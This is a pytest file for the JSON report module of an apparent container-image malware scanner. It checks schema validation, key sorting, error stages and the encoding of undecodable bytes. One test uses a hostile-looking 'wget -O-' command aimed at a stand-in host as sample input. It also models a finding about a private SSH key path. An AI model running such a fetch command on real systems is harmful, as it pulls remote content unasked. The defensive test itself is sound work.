import json

import jsonschema
import pytest

from detonate.model.findings import Category, Confidence, Evidence, Finding, Severity
from detonate.model.iocs import Iocs
from detonate.model.report import ImageInfo, Report, StageError, Verdict
from detonate.report import json_report


def sample_report(**overrides) -> Report:
    fields = dict(
        image=ImageInfo(reference="docker://example.test/app:1", digest="sha256:" + "a" * 64),
        verdict=Verdict.SUSPICIOUS,
        score=40,
        findings=(
            Finding(
                rule_id="private-key-in-image",
                title="Private key shipped in a layer",
                category=Category.WEAPONIZATION,
                technique="T1552.001",
                severity=Severity.HIGH,
                confidence=Confidence.HIGH,
                source="static:files",
                evidence=(Evidence("private key", path="/root/.ssh/id_rsa", layer_index=1),),
            ),
        ),
        iocs=Iocs(domains=("pool.test",)),
        generated_at="2026-01-01T00:00:00+00:00",
        tool_version="0.1.0",
    )
    fields.update(overrides)
    return Report(**fields)


def test_report_document_validates_against_schema():
    json_report.validate(json_report.to_document(sample_report()))


def test_error_report_validates_and_names_the_stage():
    report = sample_report(
        verdict=Verdict.ERROR,
        findings=(),
        error=StageError("acquire", "ImageNotFound", "no such image", "check the tag"),
    )
    document = json_report.to_document(report)
    json_report.validate(document)
    assert document["error"]["stage"] == "acquire"


def test_dumps_is_deterministic_with_sorted_keys():
    text = json_report.dumps(sample_report())
    assert text == json_report.dumps(sample_report())
    keys = list(json.loads(text))
    assert keys == sorted(keys)


def test_schema_rejects_unknown_category():
    document = json_report.to_document(sample_report())
    document["findings"][0]["category"] = "mining"
    with pytest.raises(jsonschema.ValidationError):
        json_report.validate(document)


def test_schema_rejects_a_malformed_technique():
    document = json_report.to_document(sample_report())
    document["findings"][0]["technique"] = "resource hijacking"
    with pytest.raises(jsonschema.ValidationError):
        json_report.validate(document)


def test_undecodable_bytes_from_a_sample_never_break_the_report():
    # "\udce2" is what surrogateescape makes of a stray 0xE2 byte in an argv or a payload.
    hostile = "wget -O- http://x.test/\udce2\udc80"
    report = sample_report(image=ImageInfo(reference=hostile))
    text = json_report.dumps(report)
    text.encode("utf-8")  # strict: must not raise
    document = json.loads(text)
    json_report.validate(document)
    assert document["image"]["reference"] == "wget -O- http://x.test/\\udce2\\udc80"
